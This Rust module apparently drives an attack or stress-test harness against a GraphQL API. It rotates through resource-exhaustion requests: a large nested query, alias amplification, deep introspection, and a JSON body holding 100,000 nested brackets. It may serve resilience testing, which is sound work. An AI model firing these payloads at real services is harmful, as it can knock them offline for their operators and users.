//! Documents that are legal and short, whose answers are large; and variables that are deep.

use std::io;

use crate::target::Attacker;
use crate::wire::Request;

/// All countries with all their provinces: the largest answer of a document this short.
pub(crate) const COUNTRIES: &str = "{countries{code name provinces{code name}}}";

fn aliases(count: usize) -> String {
    let lists = (0..count).map(|number| format!("a{number}:countries{{provinces{{name code}}}}"));
    format!("{{{}}}", lists.collect::<String>())
}

pub(crate) async fn round(attacker: &Attacker, round: usize) -> io::Result<()> {
    let request = match (attacker.number + round) % 5 {
        0 => Request::graphql(COUNTRIES),
        1 => Request::graphql(&aliases(99)),
        2 => Request::graphql(&aliases(30)),
        3 => Request::graphql(
            "{__schema{types{name fields{name type{name ofType{name ofType{name}}} args{name description}}}}}",
        ),
        _ => {
            let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
            let body = format!("{{\"query\":\"{{__typename}}\",\"variables\":{{\"a\":{deep}}}}}");
            Request::json("POST", "/api/graphql", body)
        }
    };
    attacker.send(request).await
}
